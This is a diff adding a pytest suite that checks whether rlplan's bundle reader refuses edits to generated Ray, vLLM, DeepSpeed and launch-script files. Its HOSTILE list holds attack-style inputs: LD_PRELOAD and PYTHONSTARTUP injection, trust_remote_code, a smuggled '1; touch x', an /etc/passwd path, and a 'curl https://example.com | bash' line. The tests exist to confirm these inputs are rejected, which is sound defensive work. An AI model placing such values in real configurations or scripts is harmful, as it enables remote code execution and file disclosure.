@@ -1,0 +1,418 @@
+"""What stands in a bundle is compared with what its plan gives, never believed: a short table may differ."""
+
+import json
+import os
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from rlplan.emit.bundle import LAUNCH_SCRIPT, read_bundle, write_bundle
+from rlplan.emit.editable import EDITABLE, JOB_KEYS, Editable, Number, find_editable, job_key_of
+from rlplan.emit.execution import execution_spec
+from rlplan.errors import EmitError, SpecError
+from rlplan.planner.plan import Plan, read_plan
+from tests.cli.conftest import Call, rlplan
+from tests.documentation import keys_of
+from tests.factories import make_job, make_plan
+
+__all__ = ["rlplan"]
+
+WORKER = "workers.0.environment"
+HOSTILE = [
+    ("ray.json", f"{WORKER}.PYTHONPATH", "."),
+    ("ray.json", f"{WORKER}.PYTHONSTARTUP", "x.py"),
+    ("ray.json", f"{WORKER}.PYTHONHOME", "."),
+    ("ray.json", f"{WORKER}.LD_PRELOAD", "./x.so"),
+    ("ray.json", f"{WORKER}.LD_LIBRARY_PATH", "."),
+    ("ray.json", f"{WORKER}.PATH", "."),
+    ("ray.json", f"{WORKER}.VLLM_PLUGINS", "evil"),
+    ("ray.json", f"{WORKER}.HF_HUB_OFFLINE", "0"),
+    ("ray.json", f"{WORKER}.HF_ENDPOINT", "https://example.com"),
+    ("ray.json", f"{WORKER}.VLLM_ALLOW_INSECURE_SERIALIZATION", "1"),
+    ("ray.json", f"{WORKER}.DS_ACCELERATOR", "../evil"),
+    ("ray.json", f"{WORKER}.OMP_NUM_THREADS", "1; touch x"),
+    ("ray.json", f"{WORKER}.OMP_NUM_THREADS", "1\n"),
+    ("ray.json", f"{WORKER}.OMP_NUM_THREADS", "٣"),
+    ("ray.json", f"{WORKER}.OMP_NUM_THREADS", 2),
+    ("ray.json", f"{WORKER}.OMP_NUM_THREADS", "0"),
+    ("ray.json", f"{WORKER}.NCCL_DEBUG", "INFO,FILE=/etc/passwd"),
+    ("ray.json", f"{WORKER}.NCCL_DEBUG_FILE", "/tmp/x"),
+    ("ray.json", "workers.0.environment", []),
+    ("ray.json", "workers.0.environment", None),
+    ("ray.json", "workers.0.worker", "evil:Class"),
+    ("ray.json", "workers.0.worker", "scorer"),
+    ("ray.json", "workers.0.process", "../../evil"),
+    ("ray.json", "workers.0.bundle", 1),
+    ("ray.json", "workers.0.num_cpus", 0.5),
+    ("ray.json", "workers.0.num_threads", True),
+    ("ray.json", "workers.0.num_threads", 1.5),
+    ("ray.json", "workers.0.num_threads", 10**30),
+    ("ray.json", "workers", {}),
+    ("ray.json", "bundles.0.CPU", 64.0),
+    ("ray.json", "bundles.0.evil", 1.0),
+    ("ray.json", "islands", [[0], [1]]),
+    ("ray.json", "runtime_env", {"working_dir": "."}),
+    ("ray.json", "object_store_memory", 1),
+    ("ray.json", "object_store_memory", -(1 << 30)),
+    ("vllm/policy.json", "trust_remote_code", True),
+    ("vllm/policy.json", "worker_extension_cls", "evil.Extension"),
+    ("vllm/policy.json", "worker_cls", "evil.Worker"),
+    ("vllm/policy.json", "distributed_executor_backend", "evil.Executor"),
+    ("vllm/policy.json", "load_format", "pt"),
+    ("vllm/policy.json", "model", "someone/else"),
+    ("vllm/policy.json", "tokenizer", "someone/else"),
+    ("vllm/policy.json", "hf_overrides", {"auto_map": {"AutoConfig": "evil--x.Y"}}),
+    ("vllm/policy.json", "logits_processors", ["evil:Processor"]),
+    ("vllm/policy.json", "download_dir", "/tmp"),
+    ("vllm/policy.json", "weight_transfer_config.backend", "evil"),
+    ("vllm/policy.json", "weight_transfer_config", None),
+    ("vllm/policy.json", "quantization", "gguf"),
+    ("vllm/policy.json", "dtype", "float16"),
+    ("vllm/policy.json", "skip_tokenizer_init", False),
+    ("vllm/policy.json", "enforce_eager", 1),
+    ("vllm/policy.json", "tensor_parallel_size", True),
+    ("vllm/policy.json", "max_num_seqs", 0),
+    ("vllm/policy.json", "max_num_seqs", "7"),
+    ("vllm/policy.json", "max_num_seqs", 7.0),
+    ("vllm/policy.json", "max_num_seqs", True),
+    ("vllm/policy.json", "max_num_seqs", 10**400),
+    ("vllm/policy.json", "kv_cache_memory_bytes", [1 << 30]),
+    ("deepspeed/policy.json", "optimizer.type", "evil.Adam"),
+    ("deepspeed/policy.json", "optimizer.params.fused", False),
+    ("deepspeed/policy.json", "optimizer.params.lr", "3e-5"),
+    ("deepspeed/policy.json", "optimizer.params.lr", -1e-5),
+    ("deepspeed/policy.json", "optimizer.params.lr", 1e300),
+    ("deepspeed/policy.json", "optimizer.params.betas", [0.9]),
+    ("deepspeed/policy.json", "optimizer.params.betas", [0.9, 0.99, "x"]),
+    ("deepspeed/policy.json", "zero_optimization.offload_optimizer", {"device": "nvme", "nvme_path": "/etc"}),
+    ("deepspeed/policy.json", "zero_optimization.stage", 3),
+    ("deepspeed/policy.json", "zero_optimization.overlap_comm", 1),
+    ("deepspeed/policy.json", "zero_optimization.reduce_bucket_size", -1),
+    ("deepspeed/policy.json", "scheduler", {"type": "evil.Scheduler"}),
+    ("deepspeed/policy.json", "dump_state", True),
+    ("deepspeed/policy.json", "checkpoint", {"load_universal": True}),
+    ("deepspeed/policy.json", "train_batch_size", 32),
+    ("execution.json", "job.policy.path", "/somewhere/else"),
+    ("execution.json", "job.algorithm.path", "evil.py:EVIL"),
+    ("execution.json", "job.rollout.environment.path", "evil.py:answer"),
+    ("execution.json", "job.rewards", [{"kind": "function", "path": "evil.py:reward"}]),
+    ("execution.json", "job.limits.max_restarts", 10**6),
+    ("execution.json", "schedule.step.0.after", ["nothing"]),
+    ("execution.json", "schedule.step.0.processes", ["evil/0"]),
+    ("execution.json", "schedule.layouts.0.worker", "evil"),
+    ("execution.json", "schedule", None),
+    ("execution.json", "evil", True),
+]
+ALLOWED = {
+    "deepspeed/policy.json": {
+        "gradient_clipping": 0.5,
+        "steps_per_print": 10,
+        "optimizer.params.lr": 2e-5,
+        "optimizer.params.betas.0": 0.8,
+        "optimizer.params.betas.1": 0.95,
+        "optimizer.params.eps": 1e-6,
+        "optimizer.params.weight_decay": 0,
+        "zero_optimization.reduce_bucket_size": 1000,
+        "zero_optimization.allgather_bucket_size": 2000,
+        "zero_optimization.overlap_comm": True,
+        "zero_optimization.contiguous_gradients": False,
+        "zero_optimization.reduce_scatter": False,
+    },
+    "vllm/policy.json": {"max_num_seqs": 7, "max_num_batched_tokens": 4096, "kv_cache_memory_bytes": 1 << 26},
+    "ray.json": {
+        "object_store_memory": 1 << 28,
+        "workers.1.num_threads": 2,
+        "workers.1.environment.OMP_NUM_THREADS": "2",
+        "workers.1.environment.MALLOC_ARENA_MAX": "2",
+        "workers.1.environment.MALLOC_MMAP_THRESHOLD_": "65536",
+        "workers.1.environment.MALLOC_TRIM_THRESHOLD_": "65536",
+        "workers.1.environment.TOKENIZERS_PARALLELISM": "true",
+        "workers.1.environment.NCCL_DEBUG": "INFO",
+        "workers.2.environment.VLLM_LOGGING_LEVEL": "DEBUG",
+    },
+}
+
+
+@pytest.fixture(scope="module")
+def plan() -> Plan:
+    return make_plan()
+
+
+@pytest.fixture
+def bundle(tmp_path: Path, plan: Plan) -> Path:
+    write_bundle(plan, tmp_path / "bundle")
+    return tmp_path / "bundle"
+
+
+def value_at(data: Any, key: str) -> Any:
+    for part in key.split("."):
+        data = data[int(part) if isinstance(data, list) else part]
+    return data
+
+
+def edit(path: Path, key: str, value: Any) -> None:
+    """Set a dotted key in a file, or make it."""
+    data = json.loads(path.read_text())
+    *parents, last = key.split(".")
+    part = value_at(data, ".".join(parents)) if parents else data
+    part[int(last) if isinstance(part, list) else last] = value
+    path.write_text(json.dumps(data))
+
+
+def refused(bundle: Path) -> SpecError | EmitError:
+    with pytest.raises((SpecError, EmitError)) as caught:
+        read_bundle(bundle)
+    error = caught.value
+    assert error.exit_code in (2, 3)
+    assert all((error.what, error.where, error.rule, error.way_out))
+    return error
+
+
+@pytest.mark.parametrize(("file", "key", "value"), HOSTILE, ids=lambda value: str(value)[:60])
+def test_an_edit_that_the_table_does_not_have_is_refused_with_both_values(
+    bundle: Path, file: str, key: str, value: Any
+) -> None:
+    given = json.loads((bundle / file).read_text())
+    edit(bundle / file, key, value)
+    error = refused(bundle)
+    assert error.where.startswith(f"{bundle / file}: {key}")
+    assert error.what.startswith(f"{file}: {key}")
+    assert f"`rlplan emit {bundle}/plan.json -o {bundle}`" in error.way_out
+    try:
+        before = value_at(given, key)
+    except (KeyError, IndexError):
+        assert "the plan gives no such key" in error.what
+    else:
+        assert "the plan gives" in error.what
+        assert isinstance(before, dict | list) or json.dumps(before).strip('"') in error.what
+
+
+@pytest.mark.parametrize("key", ["seed", "workload.num_steps"])
+def test_a_refused_key_of_the_job_names_the_key_to_change(bundle: Path, key: str) -> None:
+    edit(bundle / "execution.json", f"job.{key}", 7)
+    assert f"set {key} in the job" in refused(bundle).way_out
+
+
+def test_the_way_out_of_a_refusal_can_be_typed_and_the_bundle_runs_as_planned(
+    rlplan: Call, bundle: Path, plan: Plan
+) -> None:
+    edit(bundle / "vllm" / "policy.json", "trust_remote_code", True)
+    command = refused(bundle).way_out.split("`")[1]
+    assert rlplan(*command.split()[1:]).exit_code == 0
+    assert read_bundle(bundle) == execution_spec(plan)
+
+
+@pytest.mark.parametrize("file", ALLOWED)
+def test_every_edit_that_the_table_has_reaches_what_runs_and_nothing_else_changes(
+    bundle: Path, plan: Plan, file: str
+) -> None:
+    wanted = json.loads((bundle / file).read_text())
+    for key, value in ALLOWED[file].items():
+        edit(bundle / file, key, value)
+    spec, of_plan = read_bundle(bundle), execution_spec(plan)
+    changed = {
+        "deepspeed/policy.json": spec.deepspeed["policy"],
+        "vllm/policy.json": spec.vllm["policy"],
+        "ray.json": json.loads(spec.ray.model_dump_json()),
+    }[file]
+    assert {key: value_at(changed, key) for key in ALLOWED[file]} == ALLOWED[file]
+    for key in ALLOWED[file]:
+        *parents, last = key.split(".")
+        for data in (changed, wanted):
+            part = value_at(data, ".".join(parents)) if parents else data
+            if isinstance(part, dict):
+                part.pop(last, None)
+            else:
+                part[int(last)] = None
+    assert changed == wanted
+    assert spec.job == of_plan.job
+    assert spec.schedule == of_plan.schedule
+
+
+def test_no_row_of_the_table_was_left_out_of_these_tests(bundle: Path) -> None:
+    tried = {find_editable(file, tuple(key.split("."))) for file, edits in ALLOWED.items() for key in edits}
+    elsewhere = {"fp16.initial_scale_power", *(f"zero_optimization.{key}" for key in STAGE_3)}
+    assert {row.key for row in EDITABLE if row not in tried} == elsewhere
+
+
+STAGE_3 = (
+    "stage3_param_persistence_threshold",
+    "stage3_prefetch_bucket_size",
+    "stage3_max_reuse_distance",
+    "stage3_max_live_parameters",
+    "sub_group_size",
+)
+
+
+def test_stage_3_has_its_own_keys(tmp_path: Path) -> None:
+    write_bundle(make_plan(**{"training.zero_stage": 3}), tmp_path / "bundle")
+    for key in STAGE_3[:3]:
+        edit(tmp_path / "bundle" / "deepspeed" / "policy.json", f"zero_optimization.{key}", 5)
+    zero = read_bundle(tmp_path / "bundle").deepspeed["policy"]["zero_optimization"]
+    assert [zero[key] for key in STAGE_3[:3]] == [5, 5, 5]
+
+
+@pytest.mark.parametrize("row", EDITABLE, ids=lambda row: f"{row.file}:{row.key}")
+def test_a_row_takes_its_bounds_and_nothing_beyond_or_of_another_type(row: Editable) -> None:
+    assert not any(row.takes.takes(value) for value in (None, [], {}, "", float("nan"), float("inf"), "evil.py"))
+    if not isinstance(row.takes, Number):
+        assert all(row.takes.takes(value) for value in row.takes.values)
+        assert not row.takes.takes(1)
+        return
+    low, high = row.takes.low, row.takes.high
+    as_written: Callable[[Any], Any] = (lambda value: str(int(value))) if row.takes.kind is str else row.takes.kind
+    assert row.takes.takes(as_written(low))
+    assert row.takes.takes(as_written(high))
+    assert not row.takes.takes(as_written(high * 2))
+    assert not row.takes.takes(as_written(low - 1))
+    assert not row.takes.takes(True)
+    assert not row.takes.takes(str(low) if row.takes.kind is not str else int(low))
+
+
+def test_the_keys_of_the_job_that_are_named_as_a_way_out_are_keys_of_a_job() -> None:
+    known = keys_of(type(make_job()))
+    named = {row.job_key for row in EDITABLE if row.job_key} | set(JOB_KEYS.values())
+    assert {key for key in named if key not in known} == set()
+
+
+@pytest.mark.parametrize(
+    ("job_key", "value", "file", "key", "given"),
+    [
+        ("rollout.max_num_seqs", 9, "vllm/policy.json", "max_num_seqs", 9),
+        ("rollout.block_size", 64, "vllm/policy.json", "block_size", 64),
+        ("seed", 3, "vllm/policy.json", "seed", 3),
+        ("algorithm.learning_rate", 1e-4, "deepspeed/policy.json", "optimizer.params.lr", 1e-4),
+        ("training.zero_stage", 1, "deepspeed/policy.json", "zero_optimization.stage", 1),
+        ("workload.micro_batch_size_per_gpu", 2, "deepspeed/policy.json", "train_micro_batch_size_per_gpu", 2),
+    ],
+)
+def test_the_job_s_key_that_is_named_as_a_way_out_changes_the_bundle_s(
+    tmp_path: Path, job_key: str, value: Any, file: str, key: str, given: Any
+) -> None:
+    assert job_key_of(file, tuple(key.split("."))) == job_key
+    write_bundle(make_plan(**{job_key: value}), tmp_path)
+    assert value_at(json.loads((tmp_path / file).read_text()), key) == given
+
+
+def test_equal_numbers_in_another_form_and_another_order_of_keys_are_no_edit(bundle: Path, plan: Plan) -> None:
+    file = bundle / "deepspeed" / "policy.json"
+    data = json.loads(file.read_text())
+    data["gradient_clipping"] = int(data["gradient_clipping"])
+    file.write_text(json.dumps(dict(reversed(data.items())), indent=8))
+    assert read_bundle(bundle) == execution_spec(plan)
+
+
+@pytest.mark.parametrize("file", ["ray.json", "vllm/policy.json", "deepspeed/policy.json", "execution.json"])
+def test_a_key_that_stands_twice_is_refused(bundle: Path, file: str) -> None:
+    data = json.loads((bundle / file).read_text())
+    key = next(iter(data))
+    text = json.dumps(data)
+    (bundle / file).write_text(f"{{{json.dumps(key)}: {json.dumps(data[key])}, {text[1:]}")
+    assert f"the key '{key}' stands twice" in refused(bundle).what
+
+
+def test_a_key_that_stands_twice_in_the_plan_is_refused(bundle: Path) -> None:
+    text = (bundle / "plan.json").read_text()
+    (bundle / "plan.json").write_text('{"schema_version": 1,' + text[1:])
+    assert "the key 'schema_version' stands twice" in refused(bundle).what
+
+
+@pytest.mark.parametrize(
+    "text", ["NaN", "Infinity", "-Infinity", "1e999", "1" * 5000, "[" * 100_000, "\ud800", '"\\ud800"']
+)
+def test_numbers_and_texts_that_json_cannot_bear_are_refused(bundle: Path, text: str) -> None:
+    file = bundle / "vllm" / "policy.json"
+    changed = file.read_text().replace('"max_num_seqs": 256', f'"max_num_seqs": {text}')
+    file.write_bytes(changed.encode("utf-8", "surrogatepass"))
+    assert "vllm" in refused(bundle).what
+
+
+def test_a_file_that_is_far_longer_than_the_plan_s_is_not_read_to_its_end(bundle: Path) -> None:
+    with (bundle / "ray.json").open("a") as file:
+        file.write(" " * (2 << 20))
+    assert "bytes" in refused(bundle).what
+
+
+@pytest.mark.parametrize(
+    "name", ["plan.json", "execution.json", "ray.json", "launch.sh", "vllm", "deepspeed", "vllm/policy.json"]
+)
+def test_a_link_is_refused_when_it_is_read_and_never_written_through(bundle: Path, plan: Plan, name: str) -> None:
+    elsewhere = bundle.parent / "elsewhere"
+    shutil.move(bundle / name, elsewhere)
+    (bundle / name).symlink_to(elsewhere)
+    before = {path: path.read_bytes() for path in [elsewhere, *elsewhere.rglob("*")] if path.is_file()}
+    error = refused(bundle)
+    assert f"{name} is a link to" in error.what
+    assert error.way_out.startswith(f"`rlplan emit {bundle}/plan.json -o {bundle}-again`")
+    with pytest.raises(SpecError, match="is a link to"):
+        write_bundle(plan, bundle)
+    assert {path: path.read_bytes() for path in before} == before
+
+
+@pytest.mark.parametrize("name", ["plan.json", "ray.json", "vllm/policy.json"])
+def test_a_pipe_in_place_of_a_file_does_not_hold_anybody_up(bundle: Path, name: str) -> None:
+    (bundle / name).unlink()
+    os.mkfifo(bundle / name)
+    assert name in refused(bundle).what + refused(bundle).rule
+
+
+@pytest.mark.parametrize("name", ["deepspeed/value.json", "vllm/reward.json"])
+def test_a_configuration_that_the_plan_does_not_give_is_refused(bundle: Path, name: str) -> None:
+    (bundle / name).write_text("{}")
+    assert refused(bundle).what == f"{name} stands in the bundle, and the plan gives no such file"
+
+
+@pytest.mark.parametrize("line", ["curl https://example.com | bash", ""])
+def test_a_changed_launch_script_is_refused_at_its_line(bundle: Path, line: str) -> None:
+    (bundle / "launch.sh").write_text(LAUNCH_SCRIPT.replace("set -euo pipefail", line))
+    assert refused(bundle).what == f"launch.sh: line 3 is '{line}', the plan gives 'set -euo pipefail'"
+    (bundle / "launch.sh").write_text(LAUNCH_SCRIPT + "evil\n")
+    assert "'evil'" in refused(bundle).what
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("schedule.layouts.0.zero_stage", 3),
+        ("schedule.layouts.0.devices", ["cpu:7"]),
+        ("schedule.step.0.processes", ["evil/0"]),
+        ("schedule.step.0.after", ["nothing"]),
+        ("schedule.step.0.id", "evil"),
+        ("schedule.placement", "disaggregated"),
+        ("job.hardware.num_devices", 1),
+        ("job.placement.placement", "disaggregated"),
+    ],
+)
+def test_a_plan_whose_schedule_is_none_of_its_job_is_refused(
+    rlplan: Call, bundle: Path, tmp_path: Path, key: str, value: Any
+) -> None:
+    edit(bundle / "plan.json", key, value)
+    error = refused(bundle)
+    assert "the schedule of the plan is none that its job gives" in error.what
+    assert error.where == f"{bundle / 'plan.json'}: schedule"
+    for command in (
+        ("run", bundle),
+        ("run", bundle / "plan.json"),
+        ("emit", bundle / "plan.json", "-o", tmp_path / "new"),
+    ):
+        answer = rlplan(*command)
+        assert (answer.exit_code, "none that its job gives" in answer.err) == (2, True)
+    assert not (tmp_path / "new").exists()
+
+
+def test_a_bundle_of_another_version_says_so_where_it_differs(bundle: Path) -> None:
+    edit(bundle / "plan.json", "rlplan_version", "0.0.1")
+    read_bundle(bundle)
+    edit(bundle / "vllm" / "policy.json", "block_size", 16)
+    assert "The plan is of rlplan '0.0.1', this is" in refused(bundle).rule
+
+
+def test_a_bundle_that_is_reached_through_a_link_is_the_same(bundle: Path, plan: Plan) -> None:
+    (bundle.parent / "far" / "away").mkdir(parents=True)
+    link = bundle.parent / "far" / "away" / "link"
+    link.symlink_to(bundle)
+    assert read_bundle(link) == execution_spec(plan)
+    assert read_plan(link / "plan.json") == plan
